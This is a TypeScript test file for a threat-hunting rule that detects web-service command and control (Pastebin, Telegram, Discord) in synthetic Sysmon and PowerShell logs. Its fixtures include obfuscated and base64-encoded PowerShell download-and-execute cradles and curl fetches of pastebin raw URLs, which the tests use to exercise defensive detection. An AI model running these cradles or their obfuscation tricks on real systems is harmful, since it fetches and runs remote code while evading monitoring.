import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { cli, jsonLines } from '../cli/run-cli.js';
import { scratchDir } from '../helpers.js';

/** Sysmon events for one process that resolves a host, connects to it, and was created with a command line. */
interface Proc {
  image: string;
  cmd?: string;
  host?: string;
  parent?: string;
  original?: string;
  user?: string;
  guid: string;
  pid: number;
  dns?: boolean;
}

const HOST = 'WKS-7.corp.example';
function events(p: Proc, second: number): string[] {
  const t = (ms: number): string =>
    `2026-03-01 10:00:${String(second).padStart(2, '0')}.${String(ms).padStart(3, '0')}`;
  const base = {
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    SourceName: 'Microsoft-Windows-Sysmon',
    Hostname: HOST,
    ProcessGuid: p.guid,
    ProcessId: String(p.pid),
    User: p.user ?? 'CORP\\ann',
  };
  const out = [
    {
      ...base,
      EventID: 1,
      UtcTime: t(0),
      Image: p.image,
      CommandLine: p.cmd ?? p.image,
      OriginalFileName: p.original ?? p.image.split('\\').pop(),
      ParentImage: p.parent ?? 'C:\\Windows\\explorer.exe',
      ParentProcessId: '900',
      ParentProcessGuid: '{aaaaaaaa-0000-0000-0000-000000000001}',
    },
  ];
  if (p.host) {
    const ip = `104.20.${p.pid % 250}.${second}`;
    if (p.dns !== false)
      out.push({
        ...base,
        EventID: 22,
        UtcTime: t(100),
        Image: p.image,
        QueryName: p.host,
        QueryStatus: '0',
        QueryResults: `::ffff:${ip};`,
      } as never);
    out.push({
      ...base,
      EventID: 3,
      UtcTime: t(200),
      Image: p.image,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: '10.0.0.7',
      SourcePort: '50000',
      DestinationIp: ip,
      DestinationPort: '443',
      DestinationHostname: '-',
    } as never);
  }
  return out.map((o) => JSON.stringify(o));
}

async function hunt(
  procs: Proc[],
  ...extra: string[]
): Promise<{ alerts: Record<string, unknown>[]; stderr: string }> {
  const dir = scratchDir('webc2-rule-');
  const file = path.join(dir, 'events.jsonl');
  writeFileSync(file, procs.flatMap((p, i) => events(p, i + 1)).join('\n') + '\n');
  const run = await cli('hunt', file, '--format', 'jsonl', '--rule', 'webc2-t1102', ...extra);
  assert.equal(run.code, 0, run.stderr);
  return { alerts: jsonLines(run.stdout), stderr: run.stderr };
}

const g = (n: number): string => `{5a1e0000-0000-0000-0000-${String(n).padStart(12, '0')}}`;

describe('webc2-t1102', () => {
  it('recognises a browser by name and install path, never by name alone', async () => {
    const { alerts } = await hunt([
      {
        image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
        host: 'pastebin.com',
        guid: g(1),
        pid: 101,
      },
      {
        image:
          'C:\\Users\\ann\\AppData\\Local\\BraveSoftware\\Brave-Browser\\Application\\brave.exe',
        host: 'pastebin.com',
        guid: g(2),
        pid: 102,
      },
      { image: 'C:\\Users\\Public\\chrome.exe', host: 'pastebin.com', guid: g(3), pid: 103 },
    ]);
    assert.deepEqual(
      alerts.map((a) => a['FileName']),
      ['chrome.exe'],
    );
    assert.equal((alerts[0]!['Reasons'] as Record<string, unknown>)['UserWritableFolder'], true);
  });

  it('lets a client talk to its own service only', async () => {
    const od = 'C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe';
    const { alerts } = await hunt([
      { image: od, host: 'graph.microsoft.com', guid: g(1), pid: 201 },
      { image: od, host: 'api.telegram.org', guid: g(2), pid: 202 },
    ]);
    assert.deepEqual(
      alerts.map((a) => `${String(a['FileName'])} ${String(a['RemoteUrl'])}`),
      ['OneDrive.exe api.telegram.org'],
    );
  });

  it('lets a Linux client installed by the package manager talk to its own service only', async () => {
    // Sysmon for Linux writes "-" where Windows gives an original file name.
    const linux = (image: string, host: string, n: number): Proc => ({
      image,
      host,
      guid: g(n),
      pid: 300 + n,
      original: '-',
      cmd: `${image} origin https://${host}/acme/infra.git`,
    });
    const { alerts, stderr } = await hunt([
      linux('/usr/lib/git-core/git-remote-https', 'github.com', 1),
      linux('/usr/libexec/git-core/git-remote-https', 'github.com', 2),
      linux('/tmp/.x/git-remote-https', 'github.com', 3),
      linux('/usr/lib/git-core/git-remote-https', 'pastebin.com', 4),
    ]);
    assert.deepEqual(
      alerts
        .map((a) => `${String(a['FolderPath'] ?? a['FileName'])} ${String(a['RemoteUrl'])}`)
        .sort(),
      ['/tmp/.x/git-remote-https github.com', '/usr/lib/git-core/git-remote-https pastebin.com'],
    );
    assert.match(stderr, /built-in: own client 2/);
  });

  it('counts a renamed LOLBin by its original file name', async () => {
    const { alerts } = await hunt([
      {
        image: 'C:\\Users\\ann\\AppData\\Local\\Temp\\svc.exe',
        original: 'PowerShell.EXE',
        host: 'paste.ee',
        guid: g(1),
        pid: 301,
      },
    ]);
    assert.equal(alerts.length, 1);
    const a = alerts[0]!;
    assert.equal(a['SuspiciousProcess'], true);
    const r = a['Reasons'] as Record<string, unknown>;
    assert.equal(r['RenamedBinary'], true);
    assert.equal(r['UserWritableFolder'], true);
    assert.equal(a['Severity'], 'high');
  });

  it('names the API an URL on the command line uses, and the sub-technique it shows', async () => {
    const { alerts } = await hunt([
      {
        image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        cmd: 'powershell -c "irm https://api.telegram.org/bot123456:AAH-token/getUpdates"',
        host: 'api.telegram.org',
        guid: g(1),
        pid: 401,
      },
      {
        image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        cmd: 'powershell iwr https://pastebin.com/raw/Ab12Cd',
        guid: g(2),
        pid: 402,
      },
    ]);
    const tg = alerts.find((a) => a['Service'] === 'Telegram')!;
    assert.equal((tg['Reasons'] as Record<string, unknown>)['ApiShapedUrl'], 'Telegram bot API');
    assert.equal(tg['Technique'], 'T1102.002');
    assert.equal(tg['Confidence'], 'high', 'command line, DNS and connection agree');
    const paste = alerts.find((a) => a['Service'] === 'Pastebin')!;
    assert.equal(paste['Technique'], 'T1102.001');
    assert.deepEqual(
      (paste['Evidence'] as { Kind: string }[]).map((e) => e.Kind),
      ['command line'],
    );
  });

  it('suppresses what the allowlist names and counts it in the summary', async () => {
    const dir = scratchDir('webc2-allow-');
    const allow = path.join(dir, 'allow.csv');
    writeFileSync(
      allow,
      'Process,Path,Signer,Domain,Device,Account,Reason\npython.exe,C:\\Tools\\*,,api.github.com,,,release bot\n',
    );
    const { alerts, stderr } = await hunt(
      [
        { image: 'C:\\Tools\\python.exe', host: 'api.github.com', guid: g(1), pid: 501 },
        { image: 'C:\\Tools\\python.exe', host: 'api.telegram.org', guid: g(2), pid: 502 },
      ],
      '--allowlist',
      allow,
    );
    assert.deepEqual(
      alerts.map((a) => a['RemoteUrl']),
      ['api.telegram.org'],
    );
    assert.match(stderr, /set aside \(.*allowlist: release bot 1/);
  });

  it('matches domains on label boundaries, with the most specific catalogue entry deciding', async () => {
    const tool = 'C:\\Tools\\agent.exe';
    const { alerts } = await hunt([
      { image: tool, host: 'notdiscord.com', guid: g(1), pid: 601 },
      { image: tool, host: 'pastebin.com.evil.example', guid: g(2), pid: 602 },
      { image: tool, host: 'avatars.githubusercontent.com', guid: g(3), pid: 603 },
      { image: tool, host: 'x-default-rtdb.firebaseio.com', guid: g(4), pid: 604 },
      { image: tool, host: 't.me', guid: g(5), pid: 605 },
    ]);
    assert.deepEqual(alerts.map((a) => a['RemoteUrl']).sort(), [
      't.me',
      'x-default-rtdb.firebaseio.com',
    ]);
  });

  it('does not take a chrome.exe or a client name outside its vendor’s folder for the real one', async () => {
    const { alerts } = await hunt([
      {
        image: 'C:\\Users\\ann\\AppData\\Roaming\\chrome.exe',
        parent: 'C:\\Windows\\System32\\wscript.exe',
        host: 'api.telegram.org',
        guid: g(1),
        pid: 701,
      },
      {
        image: 'C:\\Users\\ann\\AppData\\Local\\SystemCache\\update.exe',
        host: 'discord.com',
        guid: g(2),
        pid: 702,
      },
      {
        image: 'C:\\Users\\ann\\AppData\\Roaming\\discord.exe',
        host: 'discord.com',
        guid: g(3),
        pid: 703,
      },
      {
        image: 'C:\\Users\\ann\\AppData\\Local\\Discord\\app-1.0.9\\Discord.exe',
        host: 'discord.com',
        guid: g(4),
        pid: 704,
      },
    ]);
    assert.deepEqual(alerts.map((a) => a['ProcessId']).sort(), [701, 702, 703]);
  });

  it('raises a client talking to another service’s domain', async () => {
    const { alerts } = await hunt([
      {
        image: 'C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe',
        host: 'api.telegram.org',
        guid: g(1),
        pid: 801,
      },
    ]);
    assert.equal(alerts.length, 1);
    assert.equal((alerts[0]!['Reasons'] as Record<string, unknown>)['ClientOffItsService'], true);
    assert.equal(alerts[0]!['Severity'], 'medium');
  });

  it('reads URLs through the usual command-line disguises', async () => {
    const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    const b64 = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
    const cmds = [
      'cmd /c "cu^rl https://pas^tebin.com/raw/x1"',
      "powershell -c \"iex (New-Object Net.WebClient).DownloadString('https://paste'+'bin.com/raw/x2')\"",
      'powershell -c "iwr https://paste`bin.com/raw/x3"',
      `powershell -ec ${b64('iwr https://pastebin.com/raw/x4')}`,
      `powershell /enc "${b64('iwr https://pastebin.com/raw/x5')}"`,
      `powershell \u2013EncodedCommand ${b64('iwr https://pastebin.com/raw/x6')}`,
      `powershell -c "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from('https://pastebin.com/raw/x7').toString('base64')}')))"`,
      'powershell iwr https://q1.q2.q3.q4.q5.q6.pastebin.com/raw/x8',
    ];
    const { alerts } = await hunt(
      cmds.map((cmd, i) => ({ image: ps, cmd, guid: g(i + 1), pid: 900 + i })),
    );
    const found = alerts.map((a) => a['ProcessId']).sort();
    assert.deepEqual(
      found,
      cmds.map((_, i) => 900 + i),
    );
    assert.ok(alerts.every((a) => a['Service'] === 'Pastebin'));
  });

  it('counts a versioned interpreter as one', async () => {
    const { alerts } = await hunt([
      { image: '/usr/bin/python3.11', host: 'api.telegram.org', guid: g(1), pid: 1001 },
    ]);
    assert.equal(alerts[0]!['ScriptingProcess'], true);
  });

  it('takes a PowerShell script block’s URLs as evidence of its process', async () => {
    const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    const dir = scratchDir('webc2-4104-');
    const file = path.join(dir, 'events.jsonl');
    const lines = events(
      { image: ps, cmd: 'powershell -File inventory.ps1', guid: g(1), pid: 1101 },
      1,
    );
    lines.push(
      JSON.stringify({
        EventID: 4104,
        Channel: 'Microsoft-Windows-PowerShell/Operational',
        SourceName: 'Microsoft-Windows-PowerShell',
        Hostname: HOST,
        TimeCreated: '2026-03-01T10:00:01.500Z',
        ProcessId: '1101',
        ScriptBlockText:
          "$x = (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/Zz9')",
      }),
    );
    writeFileSync(file, lines.join('\n') + '\n');
    const run = await cli('hunt', file, '--format', 'jsonl', '--rule', 'webc2-t1102');
    const alerts = jsonLines(run.stdout);
    assert.equal(alerts.length, 1, run.stderr);
    assert.equal(alerts[0]!['FileName'], 'powershell.exe');
    assert.deepEqual(
      (alerts[0]!['Evidence'] as { Kind: string }[]).map((e) => e.Kind),
      ['script block'],
    );
  });
});
